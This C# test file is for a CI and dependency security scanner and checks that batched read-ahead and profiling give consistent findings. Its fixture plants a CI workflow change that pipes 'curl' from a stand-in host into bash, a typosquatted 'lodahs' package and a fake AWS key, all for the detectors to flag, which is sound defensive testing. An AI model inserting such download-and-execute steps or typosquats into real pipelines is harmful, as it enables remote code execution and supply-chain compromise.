using Microsoft.Extensions.Time.Testing;
using PipeWatch.Configuration;
using PipeWatch.Detectors;
using PipeWatch.Detectors.CodeChange.PipelineTampering;
using PipeWatch.Engine;
using PipeWatch.Findings;
using PipeWatch.Rules.Patterns;
using PipeWatch.Sinks;
using PipeWatch.Sources.Git;
using PipeWatch.Tests.Detectors.Dependencies;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Engine;

/// <summary>
/// The scan reads dependency files and CI definitions ahead in batches and parses them on the preparation workers: the findings are
/// the same as without read-ahead (one worker, on the detectors' thread) and <c>--profile</c> accounts for every part.
/// </summary>
public sealed class ScanReadAheadTests : IDisposable
{
    private const string Workflow = "name: ci\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n      - run: make test\n";
    private readonly TestRepository _repo = new();

    public ScanReadAheadTests()
    {
        NpmEntry express = new("express", "4.18.2", Direct: true), ms = new("ms", "2.0.0");
        _repo.Write("package.json", CommitHistory.PackageJson("express")).Write("package-lock.json", CommitHistory.NpmLock(express, ms))
            .Write(".github/workflows/ci.yml", Workflow).Commit("start");
        for (var i = 0; i < 20; i++)
        {
            _repo.Write("package-lock.json", CommitHistory.NpmLock(express with { Version = $"4.18.{3 + i}" }, ms)).Write("src/app.js", $"// build {i}\n").Commit($"bump {i}");
        }

        _repo.Write(".github/workflows/ci.yml", Workflow.Replace("make test", "curl -sSL https://get.example.net/x.sh | bash", StringComparison.Ordinal))
            .Commit("faster ci", "Eve Intruder <eve@example.net>");
        _repo.Write("package-lock.json", CommitHistory.NpmLock(express with { Version = "4.18.23" }, ms, new NpmEntry("lodahs", "4.17.21"))).Commit("deps", "Eve Intruder <eve@example.net>");
        _repo.Write("deploy.env", "AWS_ACCESS_KEY_ID=AKIAQWERTYUIOPASDFGH\n").Commit("env");
    }

    [Fact]
    public async Task Findings_are_the_same_with_blobs_read_ahead_by_two_workers_as_on_one_thread()
    {
        var one = await RunAsync(new ScanOptions { Workers = 1, ChunkCommits = 4 });
        var two = await RunAsync(new ScanOptions { Workers = 2, ChunkCommits = 4 });

        Assert.Contains(one, f => f.Rule == DownloadAndExecuteCheck.Rule);
        Assert.Contains(one, f => f.Rule == "dependency.unexpected-new" && f.Title.Contains("lodahs", StringComparison.Ordinal));
        Assert.Contains(one, f => f.Category == Categories.HardcodedSecret);
        Assert.Equal(Comparable(one), Comparable(two));
    }

    [Fact]
    public async Task The_profile_times_reading_each_detector_and_the_blobs_read_ahead()
    {
        var profile = new ScanProfile();

        // One worker: two workers may both read the blob that ends one chunk and begins the next.
        var findings = await RunAsync(new ScanOptions { Workers = 1, ChunkCommits = 4, Profile = profile });

        var parts = profile.Parts().ToDictionary(p => p.Name);
        Assert.Equal(24 + 1, parts["read: git log output parsed into commits"].Calls); // 24 commits, then the end of the log
        foreach (var id in new[] { "secrets.hardcoded", "code-change.pipeline-tampering", "dependency.unexpected-new" }) Assert.Equal(24, parts["inspect: " + id].Calls);
        Assert.Equal(24, parts["prepare: secrets.hardcoded"].Calls);
        Assert.Equal(6, parts["prepare: blobs read ahead"].Calls); // one batch per chunk of 4 commits
        // 22 lockfile versions and 2 workflow versions: none read from git, each rebuilt from the version before it (the first
        // from nothing) and the diff; only the manifest beside each of the 22 lockfile changes is read, at its commit (whether
        // it changed since the lockfile last did), ahead in the chunk's batch.
        var blobs = Assert.Single(parts.Values, p => p.Name.StartsWith("blobs read:", StringComparison.Ordinal));
        Assert.StartsWith("blobs read: 22,", blobs.Name, StringComparison.Ordinal);
        Assert.Equal(24, Assert.Single(parts.Values, p => p.Name.StartsWith("blobs rebuilt from the previous version", StringComparison.Ordinal)).Calls);
        Assert.Equal(0, parts["blobs that could not be rebuilt (read from git instead)"].Calls);
        Assert.Equal(0, parts["blobs read again after the blob cache had dropped them (held too few, or read too far ahead)"].Calls);
        // Every lockfile version a chunk made, but its last, is let go once the chunk was prepared (chunks of 4 commits: 3 of the
        // 4 versions of each of the first five chunks, 1 of the 2 of the last), and none of them was asked for again.
        Assert.Equal((5 * 3) + 1, parts["lockfile versions let go once their chunk was prepared (a later version replaced them)"].Calls);
        Assert.True(parts["inspect: secrets.hardcoded"].Cpu > TimeSpan.Zero);
        Assert.NotEmpty(findings);
    }

    [Fact]
    public async Task Each_dependency_file_version_is_parsed_once_on_the_workers_however_little_may_be_read_ahead()
    {
        var one = await RunAsync(new ScanOptions { Workers = 1, ChunkCommits = 4 });
        foreach (var ahead in new[] { 1, 8, 512 })
        {
            var profile = new ScanProfile();
            var two = await RunAsync(new ScanOptions { Workers = 2, ChunkCommits = 4, WholeBlobsAhead = ahead, Profile = profile });

            Assert.Equal(Comparable(one), Comparable(two));
            var parts = profile.Parts().ToDictionary(p => p.Name);
            // 22 versions of package-lock.json and 2 of the workflow (read for the actions it pins), each parsed once.
            Assert.Equal(24, Assert.Single(parts.Values, p => p.Name.StartsWith("dependency files parsed on the preparation workers", StringComparison.Ordinal)).Calls);
            Assert.Equal(0, parts["dependency files parsed on the detectors' thread (not prepared, or dropped before use)"].Calls);
        }
    }

    [Fact]
    public async Task The_read_ahead_budget_waits_for_what_the_detectors_give_back_and_lets_an_oversized_chunk_through_alone()
    {
        var ct = TestContext.Current.CancellationToken;
        var budget = new ReadAheadBudget(10);
        Assert.True(budget.Take(25, ct)); // nothing held: a chunk heavier than the budget still goes
        var next = Task.Run(() => budget.Take(4, ct), ct);
        Assert.NotSame(next, await Task.WhenAny(next, Task.Delay(300, ct)));
        budget.Release(20); // 5 held: 4 more fits
        Assert.True(await next.WaitAsync(TimeSpan.FromSeconds(10), ct));
        using var cancelled = new CancellationTokenSource();
        await cancelled.CancelAsync();
        Assert.False(budget.Take(2, cancelled.Token)); // 9 held: 2 more must wait, and the scan is stopping
    }

    [Fact]
    public async Task The_CODEOWNERS_the_author_check_reads_is_read_ahead_in_the_chunks_batch_not_one_round_trip_at_a_time()
    {
        using var repo = new TestRepository();
        var day = TestRepository.Start;
        repo.Write("README.md", "app\n").Commit("readme", "Alice <alice@example.com>", day);
        repo.Write(".github/CODEOWNERS", "* alice@example.com\n").Commit("owners", "Alice <alice@example.com>", day.AddHours(1));
        var unowned = repo.Write("src/app.py", "print('hi')\n").Commit("app", "Bob <bob@example.com>", day.AddHours(2));
        repo.Write(".github/CODEOWNERS", "* alice@example.com bob@example.com\n").Commit("owners too", "Alice <alice@example.com>", day.AddHours(3));
        repo.Write("src/app.py", "print('hi there')\n").Commit("app again", "Bob <bob@example.com>", day.AddHours(4));
        var blobs = new RecordingBlobs();
        using var source = new RecordingSource(new GitHistorySource(GitRepository.Open(repo.Path), GitSelection.Default), blobs);

        var findings = await RunAsync(source, new ScanOptions { Workers = 2, ChunkCommits = 2 });

        // Bob is no owner until the second CODEOWNERS names him: read right, through the cache.
        var finding = Assert.Single(findings, f => f.Category == Categories.UnauthorizedAuthor);
        Assert.Equal(unowned, finding.Location.Commit);
        // Both CODEOWNERS versions and every owners path of both trees: asked of git in batches, none alone.
        var owners = blobs.Asked.Where(a => a.Id.EndsWith("CODEOWNERS", StringComparison.Ordinal)).ToList();
        Assert.Equal(2 * CodeOwnersLineage.Paths.Count, owners.Count);
        Assert.All(owners, a => Assert.True(a.Batch, a.Id));
        var versions = repo.Git("log", "--format=", "--raw", "--no-abbrev", "--", ".github/CODEOWNERS").Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.Split(' ')[3]).ToList();
        Assert.Equal(2, versions.Count);
        Assert.All(versions, v => Assert.Contains(blobs.Asked, a => a.Id == v && a.Batch));
        Assert.DoesNotContain(blobs.Asked, a => !a.Batch);
    }

    [Fact]
    public async Task The_read_ahead_budget_wakes_the_waiting_reader_only_once_what_it_waits_for_fits()
    {
        var ct = TestContext.Current.CancellationToken;
        var budget = new ReadAheadBudget(10);
        Assert.True(budget.Take(10, ct));
        var next = Task.Run(() => budget.Take(4, ct), ct);
        while (!budget.HasWaiter) await Task.Delay(5, ct);

        // 9, 8, 7 held: 4 more does not fit yet, so the reader is not woken for each inspected commit.
        for (var i = 0; i < 3; i++) budget.Release(1);
        Assert.Equal(0, budget.WakeUps);
        Assert.NotSame(next, await Task.WhenAny(next, Task.Delay(150, ct)));
        Assert.True(budget.HasWaiter);

        budget.Release(1); // 6 held: 4 more fits
        Assert.True(await next.WaitAsync(TimeSpan.FromSeconds(10), ct));
        Assert.Equal(1, budget.WakeUps);
        Assert.False(budget.HasWaiter);

        budget.Release(5); // nobody waits: no wake-up
        Assert.Equal(1, budget.WakeUps);
        Assert.True(budget.Take(5, ct)); // 5 held: 5 more fits at once
    }

    public void Dispose() => _repo.Dispose();

    private static List<string> Comparable(IReadOnlyList<Finding> findings) =>
        [.. findings.Select(f => $"{f.Rule}|{f.Severity}|{f.Title}|{f.Explanation}|{f.Location}|{f.Fingerprint}")];

    private async Task<IReadOnlyList<Finding>> RunAsync(ScanOptions options)
    {
        using var source = new GitHistorySource(GitRepository.Open(_repo.Path), GitSelection.Default);
        return await RunAsync(source, options);
    }

    private static async Task<IReadOnlyList<Finding>> RunAsync(ICommitSource source, ScanOptions options)
    {
        var sink = new CollectingSink();
        var engine = new PipelineBuilder(null)
            .WithConfig(PipeWatchConfig.Default with { Allow = [] })
            .WithCommitDetectors(BuiltInDetectors.ForScan(PipeWatchConfig.Default, SecretRuleBook.BuiltIn))
            .WithTime(new FakeTimeProvider(Ingest.Now))
            .WithScanOptions(options)
            .AddSink(sink)
            .BuildScan();
        await engine.RunAsync(source, null, TestContext.Current.CancellationToken);
        return sink.Findings;
    }

    // The blobs a scan asks of git, each with whether it came in a batch (read ahead) or alone.
    private sealed class RecordingBlobs : IBatchBlobReader
    {
        private readonly Lock _gate = new();

        public IBatchBlobReader? Inner { get; set; }

        public List<(string Id, bool Batch)> Asked { get; } = [];

        public string? ReadText(string blobId)
        {
            lock (_gate) Asked.Add((blobId, false));
            return Inner!.ReadText(blobId);
        }

        public string?[] ReadMany(IReadOnlyList<string> blobIds)
        {
            lock (_gate) Asked.AddRange(blobIds.Select(id => (id, true)));
            return Inner!.ReadMany(blobIds);
        }
    }

    private sealed class RecordingSource : ICommitSource
    {
        private readonly GitHistorySource _inner;

        public RecordingSource(GitHistorySource inner, RecordingBlobs blobs)
        {
            _inner = inner;
            blobs.Inner = (IBatchBlobReader)inner.Blobs;
            Blobs = blobs;
        }

        public string Repository => _inner.Repository;

        public string Root => _inner.Root;

        public IBlobReader Blobs { get; }

        public long BytesRead => _inner.BytesRead;

        public long? CountCommits() => _inner.CountCommits();

        public IEnumerable<SourcedCommit> Read(CancellationToken cancellationToken) => _inner.Read(cancellationToken);

        public void Dispose() => _inner.Dispose();
    }
}
